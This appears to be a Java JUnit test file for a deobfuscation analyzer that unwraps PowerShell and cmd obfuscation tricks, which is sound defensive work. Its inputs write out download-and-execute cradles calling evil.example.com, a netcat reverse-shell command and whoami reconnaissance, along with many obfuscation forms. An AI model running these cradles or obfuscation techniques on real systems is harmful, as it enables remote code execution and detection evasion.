package dev.vigil.copilot.script;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Each obfuscation technique the analyzer undoes, on its own and nested. */
class DeobfuscationTest {
    private static final String PAYLOAD = "Write-Output 'hello from the payload'";
    private final ScriptAnalyzer analyzer = new ScriptAnalyzer();

    private ScriptAnalysis analyze(String script) {
        return analyzer.analyze(script);
    }

    private static List<Obfuscation> undone(ScriptAnalysis analysis) {
        return analysis.layers().stream().map(Layer::obfuscation).toList();
    }

    @Nested
    class EncodedCommand {
        @ParameterizedTest(name = "{0}")
        @ValueSource(strings = {"-EncodedCommand", "-encodedcommand", "-EnCoDeDcOmMaNd", "-encodedc", "-enc", "-en",
                "-e", "-ec", "/enc", "\u2013enc"})
        void anyUnambiguousPrefixOfTheFlagDecodesTheUtf16Script(String flag) {
            ScriptAnalysis analysis = analyze("powershell.exe -NoProfile " + flag + " "
                    + Obfuscate.encodedCommand(PAYLOAD));

            assertThat(analysis.decoded()).contains(PAYLOAD).doesNotContain(flag + " ");
            assertThat(undone(analysis)).containsExactly(Obfuscation.ENCODED_COMMAND);
            assertThat(analysis.layers().getFirst().after()).isEqualTo(PAYLOAD);
            assertThat(analysis.language()).isEqualTo(ScriptLanguage.POWERSHELL);
        }

        @Test
        void aQuotedArgumentDecodesToo() {
            ScriptAnalysis analysis = analyze("pwsh -enc \"" + Obfuscate.encodedCommand(PAYLOAD) + "\"");

            assertThat(analysis.decoded()).contains(PAYLOAD);
        }

        @Test
        void theFlagsBeforeTheScriptStayForTheExplanation() {
            ScriptAnalysis analysis = analyze(Obfuscate.powershellEncoded(PAYLOAD));

            assertThat(analysis.decoded()).startsWith("powershell.exe -NoP -NonI -W Hidden -Command\n" + PAYLOAD);
        }

        @Test
        void netcatsExecuteFlagIsNotAnEncodedCommand() {
            String netcat = "nc64.exe 10.0.2.11 3001 -e cmd.exe";

            assertThat(analyze(netcat).decoded()).isEqualTo(netcat);
        }
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource({"Unicode, UTF-16LE", "UTF8, UTF-8", "ASCII, US-ASCII"})
    void base64TextDecodedWithTheEncodingNamed(String encoding, String charset) {
        String script = "iex ([Text.Encoding]::" + encoding + ".GetString([Convert]::FromBase64String('"
                + Obfuscate.base64(PAYLOAD, java.nio.charset.Charset.forName(charset)) + "')))";

        ScriptAnalysis analysis = analyze(script);

        assertThat(analysis.decoded()).isEqualTo(PAYLOAD);
        assertThat(undone(analysis)).startsWith(Obfuscation.BASE64).contains(Obfuscation.INVOKE_WRAPPER);
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"$name = [char]72+[char]105", "$name = [char]0x48+[char]0x69",
            "$name = [char[]](72,105) -join ''", "$name = -join [char[]](72,105)",
            "$name = ((72,105)|%{[char]$_}) -join ''", "$name = (72,105 | ForEach-Object { [char]$_ }) -join ''",
            "$name = [string]::join('', [char[]](72,105))", "$name = [CHAR]72 + [Char](0x69)"})
    void characterCodesBecomeTheirString(String script) {
        ScriptAnalysis analysis = analyze(script);

        assertThat(analysis.decoded()).isEqualTo("$name = 'Hi'");
        assertThat(undone(analysis)).startsWith(Obfuscation.CHAR_CODES);
    }

    @Test
    void indexesIntoWellKnownVariablesSpellTheirCharacters() {
        assertThat(analyze("&($env:ComSpec[4,15,25]-Join'') 'whoami'").decoded()).isEqualTo("whoami");
        assertThat(analyze("& ($ShellId[1]+$ShellId[13]+'x') 'whoami'").decoded()).isEqualTo("whoami");
        assertThat(analyze(".( $PSHome[4]+$PSHOME[30]+'x') 'whoami'").decoded()).isEqualTo("whoami");
    }

    @Test
    void concatenatedPiecesBecomeOneString() {
        ScriptAnalysis analysis = analyze("$command = 'Inv'+'oke'+\"-Expression\"");

        assertThat(analysis.decoded()).isEqualTo("$command = 'Invoke-Expression'");
        assertThat(undone(analysis)).containsExactly(Obfuscation.CONCATENATION);
    }

    @Test
    void nestedParenthesesAndConcatenationResolveTogether() {
        assertThat(analyze("$x = (('Q'+'2h')+('w9p'+'1'))").decoded()).isEqualTo("$x = 'Q2hw9p1'");
    }

    @Test
    void concatenationRespectsTighterOperators() {
        // -f binds tighter than +, and a method call tighter still
        assertThat(analyze("$x = 'a' + '{0}b' -f 'c'").decoded()).isEqualTo("$x = 'acb'");
        assertThat(analyze("$x = 'a' + 'b'.ToUpper()").decoded()).isEqualTo("$x = 'a' + 'b'.ToUpper()");
    }

    @Test
    void parenthesesThatAreSyntaxStay() {
        String script = "if ('x') { Write-Output ('y') }";

        assertThat(analyze(script).decoded()).isEqualTo("if ('x') { Write-Output 'y' }");
    }

    @Test
    void backticksInsideWordsAreDropped() {
        ScriptAnalysis analysis = analyze(
                "I`E`X (Ne`w-Ob`ject Net.WebClient).\"Down`l`oadString\"('http://evil.example.com/a.ps1')");

        assertThat(analysis.decoded())
                .isEqualTo("IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/a.ps1')");
        assertThat(undone(analysis)).containsExactly(Obfuscation.BACKTICK_ESCAPES);
    }

    @Test
    void backtickEscapesThatMeanSomethingStay() {
        String script = "Write-Host \"one`ntwo`ttab\" 'single`quoted'";

        assertThat(analyze(script).decoded()).isEqualTo(script);
    }

    @Test
    void caretsInsideWordsAreDropped() {
        ScriptAnalysis analysis = analyze("c^m^d /c p^o^w^e^r^s^h^e^l^l -c \"whoami\"");

        assertThat(analysis.decoded()).isEqualTo("cmd /c powershell -c \"whoami\"");
        assertThat(undone(analysis)).containsExactly(Obfuscation.CARET_ESCAPES);
    }

    @Test
    void cmdVariablesSetInTheScriptAreExpanded() {
        ScriptAnalysis analysis = analyze("cmd /c \"set a=pow&& set b=ershell&& call %a%%b% -c whoami\"");

        assertThat(analysis.decoded()).contains("call powershell -c whoami");
        assertThat(undone(analysis)).containsExactly(Obfuscation.CMD_VARIABLES);
    }

    @ParameterizedTest(name = "{0} is {1}")
    @CsvSource(delimiter = '|', value = {
            "%x:~3,10%|powershell", "%x:~3%|powershellxyz", "%x:~-13,10%|powershell", "%x:~3,-3%|powershell",
            "!x:~0,3!|abc", "%x:XYZ=-%|abcpowershell-", "%COMSPEC:~-7,3%|cmd"})
    void cmdSubstringsAndReplacementsAreEvaluated(String reference, String value) {
        ScriptAnalysis analysis = analyze("set x=abcpowershellxyz\r\necho " + reference);

        assertThat(analysis.decoded()).endsWith("echo " + value);
    }

    @Test
    void variablesTheScriptDoesNotSetStay() {
        String script = "copy %windir%\\system32\\certutil.exe %temp%\\tcm.tmp";

        assertThat(analyze(script).decoded()).isEqualTo(script);
    }

    @Test
    void formatStringsAreFilledIn() {
        ScriptAnalysis analysis = analyze("$s = \"{1}{0}\" -f 'ell','sh'; $t = (\"{0}{2}{1}\" -f 'Invoke-','ssion','Expre')");

        assertThat(analysis.decoded()).isEqualTo("$s = 'shell'; $t = 'Invoke-Expression'");
        assertThat(undone(analysis)).startsWith(Obfuscation.FORMAT_STRING);
    }

    @Test
    void formatItemsWithAlignmentAndEscapedBraces() {
        assertThat(StringPasses.format("{{{0,3}}}|{1,-2}|{0:x}", List.of("a", "b"))).isEqualTo("{  a}|b |a");
        assertThat(StringPasses.format("{2}", List.of("a"))).isNull();
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(booleans = {true, false})
    void compressedPayloadsAreInflated(boolean gzip) {
        String script = gzip ? Obfuscate.gzipCradle(PAYLOAD)
                : "IEX (New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream]"
                        + "[Convert]::FromBase64String('" + Obfuscate.deflateBase64(PAYLOAD) + "'),"
                        + "[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()";

        ScriptAnalysis analysis = analyze(script);

        assertThat(analysis.decoded()).isEqualTo(PAYLOAD);
        assertThat(undone(analysis)).containsExactly(Obfuscation.COMPRESSION, Obfuscation.INVOKE_WRAPPER);
    }

    @Test
    void aCompressedPayloadReadThroughAVariableIsDecodedWhereItIsRead() {
        String script = "$s = New-Object IO.MemoryStream(,[Convert]::FromBase64String('"
                + Obfuscate.gzipBase64(PAYLOAD) + "'));\n"
                + "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s, "
                + "[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()";

        assertThat(analyze(script).decoded()).endsWith("\n" + PAYLOAD);
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"$p = -join ('llehsrewop'[-1..-10])", "$p = ('llehsrewop'[-1..-('llehsrewop'.Length)] -join '')",
            "$r = 'llehsrewop'; $p = $r[$r.Length..0] -join ''",
            "$c = 'llehsrewop'.ToCharArray(); [array]::Reverse($c); $p = -join $c",
            "$c = [char[]]'llehsrewop'\n[Array]::Reverse($c)\n$p = $c -join ''"})
    void reversedStringsAreTurnedAround(String script) {
        ScriptAnalysis analysis = analyze(script);

        assertThat(analysis.decoded()).contains("$p = 'powershell'");
        assertThat(undone(analysis)).contains(Obfuscation.REVERSAL);
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"$p = 'poXXXrshell'.Replace('XXX','we')", "$p = 'poZZrshell' -replace 'zz','we'",
            "$p = 'poZZrshell' -creplace 'ZZ','we'", "$p = 'pow_e_rs_hell' -replace '_'",
            "$p = 'pAwArshAll'.Replace('A','e').Replace('pew','pow')"})
    void replacementsOnLiteralsAreApplied(String script) {
        ScriptAnalysis analysis = analyze(script);

        assertThat(analysis.decoded()).isEqualTo("$p = 'powershell'");
        assertThat(undone(analysis)).containsExactly(Obfuscation.REPLACE);
    }

    @Test
    void replacementsWithPatternsThatCouldBacktrackAreLeftAlone() {
        String script = "$p = 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!' -replace '(a+)+b','x'";

        assertThat(analyze(script).decoded()).isEqualTo(script);
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"$p = ('p-o-w-e-r-s-h-e-l-l' -split '-') -join ''", "$p = -join ('pow','er','shell')",
            "$p = ('pow','er','shell') -join ''", "$p = [string]::Join('', 'pow','ershell')",
            "$p = [string]::Concat('pow','ershell')", "$p = -join [char[]]'powershell'"})
    void splitAndJoinOnLiteralsAreEvaluated(String script) {
        assertThat(analyze(script).decoded()).isEqualTo("$p = 'powershell'");
    }

    @Test
    void splittingOnACharacterGivesTheArray() {
        assertThat(analyze("$urls = ('http://a.example/x*http://b.example/y').Split('*')").decoded())
                .isEqualTo("$urls = ('http://a.example/x','http://b.example/y')");
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"iex 'whoami /all'", "Invoke-Expression -Command ('whoami /all')", "'whoami /all' | iex",
            "&([scriptblock]::Create('whoami /all'))", "[ScriptBlock]::Create('whoami /all').Invoke()",
            "&('Invoke-'+'Expression') 'whoami /all'", ".('iex') 'whoami /all'"})
    void literalsRunAsCodeAreUnwrapped(String script) {
        ScriptAnalysis analysis = analyze(script);

        assertThat(analysis.decoded()).isEqualTo("whoami /all");
        assertThat(undone(analysis)).contains(Obfuscation.INVOKE_WRAPPER);
    }

    @Test
    void aVariableAssignedOnceToAStringIsReplacedWhereItIsRead() {
        ScriptAnalysis analysis = analyze("$u = 'http://evil.example.com/a.ps1'\n"
                + "(New-Object Net.WebClient).DownloadString($u) | iex\nWrite-Host \"fetched $u\"");

        assertThat(analysis.decoded()).isEqualTo("$u = 'http://evil.example.com/a.ps1'\n"
                + "(New-Object Net.WebClient).DownloadString('http://evil.example.com/a.ps1') | iex\n"
                + "Write-Host \"fetched http://evil.example.com/a.ps1\"");
        assertThat(undone(analysis)).containsExactly(Obfuscation.CONSTANT_VARIABLES);
    }

    @Test
    void aVariableWrittenTwiceKeepsItsName() {
        String script = "$u = 'a'; $u += 'b'; Write-Output $u; foreach ($i in 1..3) { $i }; $j = 'x'; $j++; $j";

        assertThat(analyze(script).decoded()).isEqualTo(script);
    }

    @Test
    void nestedLayersAreUndoneOneRoundAtATime() {
        String innermost = "(New-Object Net.WebClient).DownloadString('http://evil.example.com/stage2.ps1') | iex";
        String charCoded = "iex " + Obfuscate.charCodes(innermost);
        String compressed = Obfuscate.gzipCradle(charCoded);
        String commandLine = Obfuscate.powershellEncoded(compressed);

        ScriptAnalysis analysis = analyze(commandLine);

        assertThat(analysis.decoded()).endsWith(innermost);
        assertThat(undone(analysis)).startsWith(Obfuscation.ENCODED_COMMAND, Obfuscation.COMPRESSION)
                .contains(Obfuscation.CHAR_CODES, Obfuscation.INVOKE_WRAPPER);
        assertThat(analysis.layers().getFirst().depth()).isEqualTo(1);
        assertThat(analysis.notes()).isEmpty();
        assertThat(analysis.techniqueIds()).contains("T1027", "T1140", "T1059.001", "T1105", "T1564.003");
    }

    @Test
    void encodedCommandsInsideEncodedCommandsPeelOneLevelPerRound() {
        String script = PAYLOAD;
        for (int level = 0; level < 4; level++) {
            script = "powershell -enc " + Obfuscate.encodedCommand(script);
        }

        ScriptAnalysis analysis = analyze(script);

        assertThat(analysis.decoded()).endsWith(PAYLOAD);
        assertThat(analysis.layers()).extracting(Layer::depth).containsExactly(1, 2, 3, 4);
    }

    @Test
    void aLayerRecordsShortExcerptsOfWhatItChanged() {
        String base64 = Obfuscate.encodedCommand(PAYLOAD.repeat(20));

        Layer layer = analyze("powershell -enc " + base64).layers().getFirst();

        assertThat(layer.before()).startsWith("-enc " + base64.substring(0, 20)).endsWith("…").hasSizeLessThan(170);
        assertThat(layer.after()).startsWith(PAYLOAD).hasSizeLessThan(170);
        assertThat(layer.rewrites()).isEqualTo(1);
    }

    @Test
    void plainTextIsLeftAsItIs() {
        String script = "Get-ChildItem -Path C:\\Windows | Sort-Object Length -Descending";

        ScriptAnalysis analysis = analyze(script);

        assertThat(analysis.decoded()).isEqualTo(script);
        assertThat(analysis.layers()).isEmpty();
        assertThat(analysis.obfuscated()).isFalse();
    }

    @Test
    void binaryBase64IsNotTakenForText() {
        byte[] executable = {0x4d, 0x5a, (byte) 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, (byte) 0xff, (byte) 0xff, 0, 0};
        String script = "$b = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('"
                + java.util.Base64.getEncoder().encodeToString(executable) + "'))";

        ScriptAnalysis analysis = analyze(script);

        assertThat(analysis.decoded()).isEqualTo(script);
        assertThat(analysis.notes()).singleElement().asString().contains("does not decode to UTF8 text");
    }

    @Test
    void utf8Payloads() {
        String script = "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('"
                + Obfuscate.base64("Write-Output 'héllo ✓'", StandardCharsets.UTF_8) + "')))";

        assertThat(analyze(script).decoded()).isEqualTo("Write-Output 'héllo ✓'");
    }
}
